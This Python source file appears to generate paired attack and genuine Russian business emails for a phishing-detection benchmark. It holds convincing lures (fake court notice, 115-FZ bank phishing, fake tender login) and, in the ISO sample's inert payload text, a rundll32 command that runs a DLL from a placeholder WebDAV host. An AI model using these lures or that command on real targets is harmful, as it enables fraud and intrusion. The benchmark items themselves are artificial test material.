"""Russian messages: attack 37-40, business 37-40."""
from .msg import Msg
from .core import utc, plus, rfcdate, Text, Binary, Multi, guid, hexs, alnum, epoch
from . import systems as S, platforms as P, mk, docs, ident, org, arch, html as H
from .org import p
from .bodies import boundary

RU_E = org.ENTITIES[6]
INN_EX = RU_E['ids'][0][1]
ATS_INN = ident.ru_inn10('771432865')
ATS_KPP = '771401001'


def yandex(m, dom, client_ip=None, webmail=True, selector='mail'):
    """Yandex 360 for business."""
    r = m.rng
    if not m.msgid:
        m.msgid = '<%d%d@mail.yandex.ru>' % (r.randint(100000, 999999), epoch(m.t))
    hs, body = S.prep(m)
    d = S.enc_fields(m, 'utf-8', 'B')
    t1 = plus(m.t, 1)
    t2 = plus(t1, 1)
    n = r.randint(10, 90)
    fw = 'forward%d%s.mail.yandex.net' % (r.choice([100, 101, 102, 500, 501, 502]), r.choice('abcd'))
    sm = 'mail-nwsmtp-smtp-production-main-%d.%s.yp-c.yandex.net' % (n, r.choice(['vla', 'sas', 'iva', 'myt']))
    sig = S.dk(m, body, dom, selector, ['From', 'Subject', 'Message-Id', 'Date', 'To', 'Cc', 'Reply-To', 'In-Reply-To',
                                        'References', 'MIME-Version', 'Content-Type'], t=epoch(t1))
    below = [('Received', 'from %s (%s [IPv6:2a02:6b8:c1f:%x:0:640:%x:0])\r\n\tby %s (Yandex) with ESMTPS id %s;\r\n\t%s'
              % (sm, sm, r.randint(0x100, 0xfff), r.randint(0x1000, 0xffff), fw, alnum(r, 12, '0123456789ABCDEF'),
                 rfcdate(t1, 'RU', 'postfix'))),
             ('Received', 'by %s (smtp/Yandex) with ESMTPSA id %s-%s;\r\n\t%s' % (
                 sm, alnum(r, 10), alnum(r, 8), rfcdate(m.t, 'RU', 'pad')))]
    if client_ip:
        below[-1] = ('Received', 'from [%s] (unknown [%s])\r\n\tby %s (smtp/Yandex) with ESMTPSA id %s-%s;\r\n\t%s' % (
            client_ip, client_ip, sm, alnum(r, 10), alnum(r, 8), rfcdate(m.t, 'RU', 'pad')))
    below += [('X-Yandex-Fwd', '1'), ('DKIM-Signature', sig)]
    below += [('From', d['From']), ('To', d['To'])] + ([('Cc', d['Cc'])] if 'Cc' in d else []) + [
        ('Subject', d['Subject']), ('MIME-Version', '1.0')]
    if webmail:
        below += [('X-Mailer', 'Yandex Mail'), ('Message-Id', m.msgid), ('Date', rfcdate(m.t, 'RU', 'pad'))]
    else:
        below += [('Message-Id', m.msgid), ('Date', rfcdate(m.t, 'RU', 'pad'))]
    below += m.extra + hs
    conn = dict(helo=fw, rdns=fw, ip='178.154.239.%d' % r.randint(60, 220), t=t2, mail_from=m.frm[1], tls='1.3')
    conn['auth'] = S.auth(m, policy='none')
    return S.finish(m, below, conn)


def a37():
    m = Msg('attack', '37-ru-akt-sverki-zip')
    m.t = utc(2026, 10, 26, 9, 31, 5)
    m.zone = 'RU'
    m.frm = ('Бухгалтерия АвиаТехСнаб', 'buh@aviatehsnab.ru')
    m.to = [p('sergey.volkov')]
    m.subject = 'Акт сверки взаиморасчётов за 9 месяцев 2026 г.'
    pw = '2026'
    m.meta['zip_password'] = pw
    m.fact('ZIP password', pw, 'given in the message body')
    payload = ('Inert evaluation sample. In the real campaign this was a Windows screensaver executable '
               '(Акт сверки 9м2026.pdf.scr) dropping a remote-access trojan.\r\n').encode()
    z = arch.make_zip([('Акт_сверки_9м2026.pdf.scr', payload, (2026, 10, 26, 9, 12, 30))], rng=m.rng, password=pw.encode(),
                      name_encoding='cp866', version_made=0x0014)
    text = ('Добрый день!\n\nНаправляем акт сверки взаиморасчётов с ООО «Экзампл Хеликоптерс» за период '
            '01.01.2026 - 30.09.2026. По нашим данным имеется расхождение в сумме 412 800,00 руб.\n\n'
            'Просим проверить, подписать и вернуть скан в течение 3 рабочих дней.\n'
            'Архив защищён паролем: 2026\n\n'
            'С уважением,\nбухгалтерия ООО «АвиаТехСнаб»')
    m.body = mk.client(m, 'yandex', text, None, cs='utf-8', cte='base64',
                       attachments=[Binary('application/zip', z, 'Акт_сверки_АТС_9м2026.zip', 'attachment',
                                           fname_style='2047')])
    m.raw = yandex(m, 'aviatehsnab.ru', client_ip='198.51.100.203', webmail=False)
    m.meta['what'] = 'Supplier\'s accounting sends a reconciliation statement (акт сверки) as a password-protected ZIP'
    m.meta['why'] = ('Malware loader from the supplier\'s compromised Yandex 360 mailbox (DKIM/DMARC pass), SMTP login from '
                     'a foreign IP; encrypted ZIP with a .pdf.scr (represented inertly), password in the text, claimed '
                     'discrepancy as bait. The genuine reconciliation comes as XLSX from the known contact (business/37)')
    return m


def b37():
    m = Msg('business', '37-ru-aviatehsnab-akt-schet-qr')
    m.t = utc(2026, 11, 24, 13, 12, 40)
    m.zone = 'RU'
    m.frm = ('Ирина Кузнецова', 'i.kuznetsova@aviatehsnab.ru')
    m.to = [p('sergey.volkov')]
    m.cc = [p('olga.smirnova')]
    m.subject = 'Счёт № 1184 от 24.11.2026 и акт сверки за 10 месяцев'
    acc, bik, corr = org.ATS_ACC, org.ATS_BIK, org.ATS_CORR
    m.account('Р/с', acc, 'АвиаТехСнаб settlement account (Alfa-Bank), control key valid for BIK %s' % bik)
    m.account('К/с', corr, 'Alfa-Bank correspondent account')
    st = ('ST00012|Name=ООО «АвиаТехСнаб»|PersonalAcc=%s|BankName=АО «АЛЬФА-БАНК»|BIC=%s|CorrespAcc=%s|PayeeINN=%s|KPP=%s|'
          'Purpose=Оплата по счёту № 1184 от 24.11.2026, в т.ч. НДС 22%% - 33 540,98 руб.|Sum=%d' % (
              acc, bik, corr, ATS_INN, ATS_KPP, 18600000))
    m.qr(st, 'ГОСТ Р 56042 payment QR on the invoice', 'pdf')
    m.phone('+7 495 258-31-70', 'supplier phone')
    text = ('Сергей, добрый день!\n\nВо вложении счёт № 1184 на тележку буксировочную и комплект заглушек (по вашей '
            'заявке от 18.11) и акт сверки за январь-октябрь 2026 в Excel.\n\n'
            'Сумма к оплате 186 000,00 руб., в т.ч. НДС 22%. Реквизиты прежние, на счёте есть QR-код для оплаты из '
            'банк-клиента. Оригиналы подпишем через Диадок.\n\n'
            'По акту сверки расхождений у нас нет, сальдо на 31.10 в вашу пользу 0,00. Подпишите, пожалуйста, в ЭДО, '
            'когда будет время.\n\nС уважением,\nИрина Кузнецова\nменеджер по работе с клиентами\nООО «АвиаТехСнаб»\n'
            'тел. +7 495 258-31-70')
    rows = [['1', 'Тележка буксировочная для вертолётов (колёсное шасси), ТБ-3М', '1 шт', '126 229,51', '126 229,51'],
            ['2', 'Комплект заглушек и чехлов (воздухозаборники, ПВД)', '1 компл', '26 229,51', '26 229,51']]
    pdf, ptxt = docs.invoice_pdf(
        'ООО «АвиаТехСнаб»', ['115088, г. Москва, ул. Угрешская, д. 2, стр. 8 · ИНН %s · КПП %s' % (ATS_INN, ATS_KPP)],
        ['Покупатель: ООО «Экзампл Хеликоптерс»', 'ИНН %s, КПП 772901001' % INN_EX, '119027, г. Москва,',
         'ул. 2-я Рейсовая, д. 14, стр. 2'],
        'Счёт на оплату № 1184 от 24 ноября 2026 г.',
        [('Банк получателя', 'АО «АЛЬФА-БАНК»'), ('БИК', bik), ('Сч. №', corr), ('Р/с', acc)],
        ['№', 'Товары (работы, услуги)', 'Кол-во', 'Цена', 'Сумма'], rows,
        [('Итого', '152 459,02', False), ('НДС 22%', '33 540,98', False), ('Всего к оплате', '186 000,00 руб.', True)],
        ['Всего наименований 2, на сумму 186 000,00 руб. Оплата данного счёта означает согласие с условиями поставки. '
         'Счёт действителен в течение 5 банковских дней.', 'Руководитель ______ Тихонов А. В.     Бухгалтер ______ Лаптева Н. С.'],
        [['ООО «АвиаТехСнаб»', 'ОГРН %s' % ident.ru_ogrn('115774608215')], ['ИНН %s / КПП %s' % (ATS_INN, ATS_KPP)]],
        dict(title='Счёт 1184', author='Кузнецова И.', creator='1С:Предприятие 8.3', producer='1С:Предприятие 8.3 (8.3.25.1394)',
             created="D:20261124160815+03'00'"), qr_payload=st, qr_caption='QR-код для оплаты (ГОСТ Р 56042-2014)',
        right_cols=(2, 3, 4), col_x=[50, 75, 320, 380, 460])
    m.meta['doc_texts'] = [ptxt]
    xrows = [['Акт сверки взаимных расчётов за период 01.01.2026 - 31.10.2026', None, None, None],
             ['между ООО «АвиаТехСнаб» и ООО «Экзампл Хеликоптерс»', None, None, None],
             ['Дата', 'Документ', 'Дебет', 'Кредит'],
             ['01.01.2026', 'Сальдо начальное', 0.0, None],
             ['14.03.2026', 'Продажа (УПД № 211)', 94800.0, None], ['20.03.2026', 'Оплата (п/п № 88)', None, 94800.0],
             ['02.06.2026', 'Продажа (УПД № 574)', 318000.0, None], ['09.06.2026', 'Оплата (п/п № 214)', None, 318000.0],
             ['27.08.2026', 'Продажа (УПД № 902)', 41250.0, None], ['03.09.2026', 'Оплата (п/п № 331)', None, 41250.0],
             ['31.10.2026', 'Обороты за период', 454050.0, 454050.0], ['31.10.2026', 'Сальдо конечное', 0.0, None]]
    xlsx = arch.make_xlsx(xrows, 'Акт сверки', 'Акт сверки 10м2026', 'Лаптева Н. С.', 'ООО АвиаТехСнаб',
                          '2026-11-24T10:02:00Z', '2026-11-24T12:55:00Z', col_widths=[14, 44, 16, 16], bold_rows=(0, 2))
    m.body = Multi('mixed', [Multi('alternative', [Text('plain', text, 'utf-8', 'base64'),
                                                   Text('html', '<div>' + '</div><div>'.join(H.esc(x) if x else '&nbsp;' for x in text.split('\n')) + '</div>',
                                                        'utf-8', 'base64')], boundary(m, 'yandex')),
                             Binary('application/pdf', pdf, 'Счет_1184_от_24.11.2026.pdf', 'attachment', fname_style='2047'),
                             Binary(mk.TYPES['xlsx'], xlsx, 'Акт_сверки_АвиаТехСнаб_10м2026.xlsx', 'attachment',
                                    fname_style='2047')], boundary(m, 'yandex'))
    m.raw = yandex(m, 'aviatehsnab.ru', webmail=True)
    m.meta['what'] = 'Supplier sends an invoice (PDF with ГОСТ payment QR) and a reconciliation statement as XLSX'
    m.meta['why'] = ('Genuine: known contact via Yandex 360 web mail (no foreign client IP), unchanged bank details with '
                     'valid control keys, expected order, documents in plain PDF/XLSX, originals via EDO (Diadoc)')
    m.meta['pair'] = ['37']
    m.meta['topic'] = 'Reconciliation statement (акт сверки) from АвиаТехСнаб'
    m.meta['pair_note'] = 'Open XLSX/PDF from the known contact; attack uses encrypted ZIP with an executable'
    return m


def a38():
    m = Msg('attack', '38-ru-arbitr-isk-iso')
    m.t = utc(2026, 11, 11, 7, 26, 50)
    m.zone = 'RU'
    m.frm = ('Арбитражный суд города Москвы', 'info@msk-arbitr.ru.com')
    m.to = [p('olga.smirnova')]
    m.subject = 'Уведомление о принятии искового заявления к производству, дело N А40-281734/2026'
    payload = ('Inert evaluation sample. In the real campaign this Windows shortcut started '
               '"cmd /c start /min rundll32 \\\\[webdav host]@8080\\DavWWWRoot\\doc.dll,Start".\r\n').encode('utf-8')
    decoy = docs.simple_pdf([[('h', 'ОПРЕДЕЛЕНИЕ'), ('p', 'о принятии искового заявления к производству'),
                              ('p', 'г. Москва                                                Дело № А40-281734/2026')]],
                            dict(title='Определение', author='', creator='', producer='PDFsharp 1.50',
                                 created="D:20261110201144+03'00'"))[0]
    iso = arch.make_iso([('ISKOVOE_.LNK', 'Исковое заявление №А40-281734-2026.pdf.lnk', payload),
                         ('OPREDELE.PDF', 'Определение.pdf', decoy)], 'A40_281734', (2026, 11, 10, 20, 14, 0))
    text = ('Уважаемые господа!\n\n'
            'Арбитражный суд города Москвы уведомляет, что исковое заявление ООО «ТехАвиаЛизинг» к ООО «Экзампл '
            'Хеликоптерс» о взыскании задолженности по договору лизинга в размере 4 386 120,00 руб. принято к '
            'производству (дело № А40-281734/2026).\n\n'
            'Предварительное судебное заседание назначено на 02.12.2026 в 11:30, зал 7031.\n\n'
            'Копия искового заявления и определение суда прилагаются. В соответствии со ст. 131 АПК РФ ответчик обязан '
            'направить отзыв на исковое заявление не позднее 5 дней до заседания.\n\n'
            'Помощник судьи\nАрбитражный суд города Москвы\n115225, г. Москва, ул. Большая Тульская, д. 17')
    text = text.replace('«', '"').replace('»', '"').replace('№', 'N')
    m.body = mk.client(m, 'outlook', text, None, cs='koi8-r', cte='8bit',
                       attachments=[Binary('application/octet-stream', iso, 'Дело_А40-281734-2026.iso', 'attachment',
                                           fname_style='2047:koi8-r')], preamble='This is a multi-part message in MIME format.')
    r = m.rng
    m.msgid = '<%s.%s@msk-arbitr.ru.com>' % (hexs(r, 10), r.randint(10 ** 8, 10 ** 9))
    hs, body = S.prep(m)
    d = S.enc_fields(m, 'koi8-r', 'B')
    t1 = plus(m.t, 1)
    below = [('Received', 'from [10.0.2.15] (unknown [198.51.100.74])\r\n\tby mail.msk-arbitr.ru.com (Postfix) with ESMTPSA id %s'
              '\r\n\tfor <olga.smirnova@example.com>; %s' % (S.postfix_qid(r, m.t), rfcdate(m.t, 'UTC', 'postfix'))),
             ('Date', rfcdate(m.t, 'RU')), ('From', d['From']), ('X-Mailer', 'The Bat! (v10.5.3) Professional'),
             ('Reply-To', 'info@msk-arbitr.ru.com'), ('Message-ID', m.msgid), ('To', d['To']), ('Subject', d['Subject']),
             ('MIME-Version', '1.0')] + hs
    conn = dict(helo='mail.msk-arbitr.ru.com', rdns='vm2141.vps-hosting.example-cloud.net', ip='203.0.113.188',
                t=plus(t1, 1), mail_from='info@msk-arbitr.ru.com', tls='1.2')
    conn['auth'] = {'spf': 'none', 'dkim': [], 'dmarc': ('none', None, 'msk-arbitr.ru.com')}
    m.raw = S.finish(m, below, conn)
    m.meta['what'] = 'Moscow Arbitration Court notifies of a 4.4 M RUB leasing claim; claim and ruling attached as an ISO image'
    m.meta['why'] = ('Fake court notice delivering a disk image (ISO with Joliet names: .pdf.lnk shortcut + decoy PDF, '
                     'represented inertly) - a container that bypasses Mark-of-the-Web; look-alike msk-arbitr.ru.com '
                     '(courts use kad.arbitr.ru and do not mail claims), VPS without SPF/DKIM, koi8-r The Bat! mail. '
                     'Genuine authority notice via EDO operator: business/38')
    return m


def b38():
    m = Msg('business', '38-ru-kontur-trebovanie-ifns')
    m.t = utc(2026, 11, 13, 10, 4, 18)
    m.zone = 'RU'
    m.frm = ('Контур.Экстерн', 'noreply@kontur.ru')
    m.to = [p('sergey.volkov')]
    m.subject = 'Поступило требование из ИФНС № 29 по г. Москве'
    u = m.url('https://extern.kontur.ru', 'Kontur.Extern web application (typed)')
    m.phone('8 800 500-05-08', 'Kontur support')
    text = ('Здравствуйте!\n\nВ Контур.Экстерн поступил документ от налогового органа для организации '
            'ООО «Экзампл Хеликоптерс» (ИНН %s).\n\n'
            'Тип документа: Требование о представлении пояснений (КНД 1160001)\n'
            'Отправитель: ИФНС России № 29 по г. Москве (7729)\nДата поступления: 13.11.2026\n\n'
            'Необходимо отправить квитанцию о приёме в течение 6 рабочих дней. Ответ на требование - в срок, '
            'указанный в документе.\n\n'
            'Чтобы посмотреть документ, войдите в Контур.Экстерн: %s\n\n'
            'Служба поддержки: 8 800 500-05-08\nЭто письмо сформировано автоматически, отвечать на него не нужно.'
            % (INN_EX, u))
    m.body = Text('plain', text, 'windows-1251', 'quoted-printable')
    r = m.rng
    m.msgid = '<%s@notify.kontur.ru>' % guid(r)
    msg = S.std_msg_headers(m, ('Date', 'From', 'To', 'Message-ID', 'Subject'), charset='windows-1251', enc='B', mime_first=True)
    msg.append(('List-Unsubscribe', '<https://extern.kontur.ru/settings/notifications>'))
    m.url('https://extern.kontur.ru/settings/notifications', 'List-Unsubscribe header target')
    inner = [('Received', 'from notify-sender-%02d.kontur.host (unknown [10.34.%d.%d])\r\n\tby mx-out3.kontur.ru (Postfix) with '
              'ESMTP id %s\r\n\tfor <sergey.volkov@example.com>; %s' % (r.randint(1, 20), r.randint(1, 99), r.randint(1, 250),
                                                                      S.postfix_qid(r, m.t), rfcdate(plus(m.t, 1), 'RU', 'postfix')))]
    m.raw = S.relay(m, 'mx-out3.kontur.ru', '192.0.2.31', 'kontur.ru', inner=inner, msg_headers=msg, selector='dkim',
                    dmarc_policy='reject')
    m.meta['what'] = 'EDO operator Kontur.Extern: a tax-office request for explanations arrived for the Moscow entity'
    m.meta['why'] = ('Genuine notification of the company\'s reporting operator (kontur.ru, auth pass), names the real tax '
                     'office, document stays in the operator\'s system, no attachment')
    m.meta['pair'] = ['38']
    m.meta['topic'] = 'Official legal/tax document notification (Russia)'
    m.meta['pair_note'] = 'Delivered via the contracted EDO operator, no attachment; fake court notice carries an ISO'
    return m


def a39():
    m = Msg('attack', '39-ru-sberbiznes-115fz')
    m.t = utc(2026, 12, 9, 6, 41, 22)
    m.zone = 'RU'
    m.frm = ('СберБизнес', 'uvedomleniya@sberbusiness-online.ru')
    m.to = [p('sergey.volkov')]
    m.subject = 'Операции по счёту приостановлены (115-ФЗ) - предоставьте документы до 11.12.2026'
    link = m.url('https://sberbusiness-online.ru/lk/115fz/dokumenty?client=7729148505', 'credential phishing page')
    html, plain = H.notif([
        ('h', 'Уважаемый клиент!'),
        ('p', 'В соответствии с Федеральным законом от 07.08.2001 № 115-ФЗ «О противодействии легализации (отмыванию) '
              'доходов, полученных преступным путём, и финансированию терроризма» операции по расчётному счёту '
              'ООО «ЭКЗАМПЛ ХЕЛИКОПТЕРС» (ИНН 7729148505) временно приостановлены.'),
        ('p', 'Для снятия ограничений необходимо в течение 2 рабочих дней предоставить пояснения и подтверждающие '
              'документы по операциям за ноябрь 2026 г. через личный кабинет:'),
        ('btn', 'Предоставить документы', link),
        ('p', 'При отсутствии документов банк вправе расторгнуть договор банковского счёта и сообщить в Росфинмониторинг.'),
        ('small', 'С уважением, ПАО Сбербанк\nЭто письмо сформировано автоматически.')],
        brand='СберБизнес', color='#21a038', lang='ru', title='СберБизнес')
    m.body = Multi('alternative', [Text('plain', plain, 'windows-1251', 'base64'),
                                   Text('html', html.replace('charset=utf-8', 'charset=windows-1251'), 'windows-1251', 'base64')],
                   boundary(m, 'java'))
    m.raw = S.mailgun(m, 'mg.sberbusiness-online.ru')
    m.meta['what'] = 'SberBusiness: account operations suspended under anti-money-laundering law 115-FZ, upload documents'
    m.meta['why'] = ('Bank credential phishing with a very Russian pretext (115-FZ blocking), look-alike domain via Mailgun, '
                     '2-day deadline and termination threat; the Moscow entity banks with Raiffeisen (business/39)')
    return m


def b39():
    m = Msg('business', '39-ru-raiffeisen-tarify')
    m.t = utc(2026, 12, 1, 8, 15, 0)
    m.zone = 'RU'
    m.frm = ('Райффайзенбанк', 'business@raiffeisen.ru')
    m.to = [p('sergey.volkov')]
    m.subject = 'Изменение тарифов расчётно-кассового обслуживания с 1 января 2027 года'
    u = m.url('https://www.raiffeisen.ru/business/tariffs/', 'bank tariffs page')
    m.phone('8 800 700-46-46', 'bank business support')
    text = ('Уважаемый клиент!\n\nСообщаем, что с 01.01.2027 вступают в силу новые редакции тарифов расчётно-кассового '
            'обслуживания для юридических лиц. Для вашего пакета «Базовый» ежемесячная плата не изменится; изменится '
            'комиссия за переводы в пользу физических лиц свыше 1,5 млн руб. в месяц.\n\n'
            'С тарифами можно ознакомиться на сайте банка: %s, а также в системе Райффайзен Бизнес Онлайн в разделе '
            '«Документы».\n\n'
            'Напоминаем: банк никогда не запрашивает по электронной почте или телефону логины, пароли, коды из SMS, а '
            'также не просит загружать документы по ссылкам из писем.\n\n'
            'Служба поддержки: 8 800 700-46-46\nАО «Райффайзенбанк»' % u)
    html, _ = H.notif([('p', b) for b in text.split('\n\n')], brand='Райффайзенбанк', color='#fee600', lang='ru')
    m.body = Multi('alternative', [Text('plain', text, 'utf-8', 'quoted-printable'), Text('html', html, 'utf-8', 'quoted-printable')],
                   boundary(m, 'java'))
    r = m.rng
    m.msgid = '<%s.%d@notify.raiffeisen.ru>' % (hexs(r, 20), r.randint(10 ** 5, 10 ** 6))
    msg = S.std_msg_headers(m, ('Date', 'From', 'To', 'Subject', 'Message-ID'), charset='utf-8', enc='B', mime_first=True)
    inner = [('Received', 'from notify.raiffeisen.ru (unknown [10.77.%d.%d])\r\n\tby mx2.raiffeisen.ru (Postfix) with ESMTP id %s'
              '\r\n\tfor <sergey.volkov@example.com>; %s' % (r.randint(1, 99), r.randint(1, 250), S.postfix_qid(r, m.t),
                                                            rfcdate(plus(m.t, 1), 'RU', 'postfix')))]
    m.raw = S.relay(m, 'mx2.raiffeisen.ru', '192.0.2.148', 'raiffeisen.ru', inner=inner, msg_headers=msg, selector='rbru',
                    dmarc_policy='reject')
    m.meta['what'] = 'House bank announces tariff changes for business accounts from 01.01.2027'
    m.meta['why'] = ('Genuine notice from the company\'s actual bank (raiffeisen.ru, auth pass), informational, no account '
                     'blocking or documents requested, anti-phishing reminder')
    m.meta['pair'] = ['39']
    m.meta['topic'] = 'Bank notice to a business customer (Russia)'
    m.meta['pair_note'] = 'Real house bank, no action required; attack threatens 115-FZ blocking'
    return m


def a40():
    m = Msg('attack', '40-ru-zakupka-etp-login')
    m.t = utc(2026, 10, 30, 8, 57, 31)
    m.zone = 'RU'
    m.frm = ('Отдел закупок АО «СНГК»', 'tender@sngk-zakupki.ru')
    m.to = [p('olga.smirnova')]
    m.subject = 'Приглашение к участию в закупке № 32614883210 - авиационные работы вертолётами (Ми-8/AW139)'
    link = m.url('https://etp-sngk.ru/lk/login?proc=32614883210', 'fake e-trading platform login')
    m.phone('+7 3466 49-21-07', 'fake procurement department')
    text = ('Уважаемые коллеги!\n\n'
            'АО «Северная нефтегазовая компания» приглашает вашу организацию принять участие в закупке № 32614883210 '
            '(запрос предложений в электронной форме) на оказание услуг по выполнению авиационных работ вертолётами '
            'среднего класса (Ми-8АМТ/МТВ-1, AW139 или аналог) для перевозки вахтового персонала и грузов на '
            'месторождениях ХМАО-Югры в 2027 году.\n\n'
            'Начальная (максимальная) цена договора: 418 600 000,00 руб. с НДС.\n'
            'Окончание подачи заявок: 13.11.2026 10:00 (МСК).\n\n'
            'Закупочная документация доступна зарегистрированным участникам в личном кабинете электронной торговой '
            'площадки АО «СНГК». Для доступа авторизуйтесь с помощью корпоративной почты:\n%s\n\n'
            'Контактное лицо: Гаврилова Елена Викторовна, ведущий специалист отдела закупок, тел. +7 3466 49-21-07.\n\n'
            'С уважением,\nОтдел закупок АО «СНГК»\n628606, ХМАО-Югра, г. Нижневартовск, ул. Ленина, д. 15П' % link)
    html = ('<html><body style="font-family:Tahoma,Arial;font-size:13px">' + ''.join(
        '<p>%s</p>' % H.linkify(b).replace('\n', '<br>') for b in text.split('\n\n')) + '</body></html>')
    m.body = mk.client(m, 'roundcube', text, html, cs='UTF-8', cte='quoted-printable')
    m.msgid = '<%s@sngk-zakupki.ru>' % hexs(m.rng, 32)
    m.raw = S.cpanel(m, 'vh312.timeweb.ru', '203.0.113.212', 'sngk-zakupki.ru', mua='roundcube',
                     user='tender@sngk-zakupki.ru', local=False, client_ip='198.51.100.101', lang='ru',
                     dmarc_res='pass', dmarc_policy='none')
    m.meta['what'] = 'Oil & gas company invites the Moscow office to a 418 M RUB helicopter services tender; ETP login link'
    m.meta['why'] = ('Fake tender for credential theft: newly registered look-alike procurement domains on shared hosting, '
                     'huge contract value, "log in with your corporate mail" on a fake trading platform; real tender '
                     'alerts come from the subscribed platform (business/40)')
    return m


def b40():
    m = Msg('business', '40-ru-b2b-center-novaya-procedura')
    m.t = utc(2026, 11, 5, 5, 20, 9)
    m.zone = 'RU'
    m.frm = ('B2B-Center', 'noreply@b2b-center.ru')
    m.to = [p('olga.smirnova')]
    m.subject = 'Новые процедуры по вашей подписке "вертолёт": 2'
    u1 = m.url('https://www.b2b-center.ru/market/view.html?id=4418273', 'tender on the platform')
    u2 = m.url('https://www.b2b-center.ru/market/view.html?id=4419005', 'tender on the platform')
    u3 = m.url('https://www.b2b-center.ru/personal/subscriptions/', 'subscription settings')
    text = ('Здравствуйте, Ольга!\n\nПо вашей подписке «вертолёт» опубликованы новые процедуры:\n\n'
            '1. Запрос предложений № 4418273 «Выполнение авиационных работ вертолётом лёгкого класса для аэровизуального '
            'обследования ВЛ 110-220 кВ в 2027 г.»\nОрганизатор: АО «Энергосеть Подмосковья»\nОкончание приёма '
            'предложений: 24.11.2026 12:00 (МСК)\n%s\n\n'
            '2. Запрос цен № 4419005 «Поставка комплекта наземного оборудования для обслуживания вертолётов»\n'
            'Организатор: ООО «СеверАвиаСервис»\nОкончание приёма предложений: 16.11.2026 10:00 (МСК)\n%s\n\n'
            'Управление подписками: %s\n\nС уважением,\nкоманда B2B-Center' % (u1, u2, u3))
    text = text.replace('«', '"').replace('»', '"').replace('№', 'N')
    html, _ = H.notif([('p', b) for b in text.split('\n\n')], brand='B2B-Center', color='#1f5aa6', lang='ru')
    m.body = Multi('alternative', [Text('plain', text, 'koi8-r', 'base64'),
                                   Text('html', html.replace('charset=utf-8', 'charset=koi8-r'), 'koi8-r', 'base64')],
                   boundary(m, 'java'))
    r = m.rng
    m.msgid = '<%s@b2b-center.ru>' % hexs(r, 32)
    msg = S.std_msg_headers(m, ('Date', 'From', 'To', 'Subject', 'Message-ID'), charset='koi8-r', enc='B', mime_first=True)
    msg.append(('List-Unsubscribe', '<%s>' % u3))
    inner = [('Received', 'from app-mail-07.b2b-center.ru (unknown [10.2.%d.%d])\r\n\tby relay2.b2b-center.ru (Postfix) with '
              'ESMTP id %s\r\n\tfor <olga.smirnova@example.com>; %s' % (r.randint(1, 99), r.randint(1, 250),
                                                                      S.postfix_qid(r, m.t), rfcdate(plus(m.t, 1), 'RU', 'postfix')))]
    m.raw = S.relay(m, 'relay2.b2b-center.ru', '198.51.100.231', 'b2b-center.ru', inner=inner, msg_headers=msg,
                    selector='b2b', dmarc_policy='quarantine')
    m.meta['what'] = 'Subscribed tender platform alert with two helicopter-related procurements'
    m.meta['why'] = ('Genuine subscription alert from the trading platform (auth pass), links to the platform\'s own '
                     'listings, no credentials requested in the mail')
    m.meta['pair'] = ['40']
    m.meta['topic'] = 'Helicopter services tender (Russia)'
    m.meta['pair_note'] = 'Real platform subscription; attack is an unsolicited invitation with a fake ETP login'
    return m


ATTACK = [a37, a38, a39, a40]
BUSINESS = [b37, b38, b39, b40]
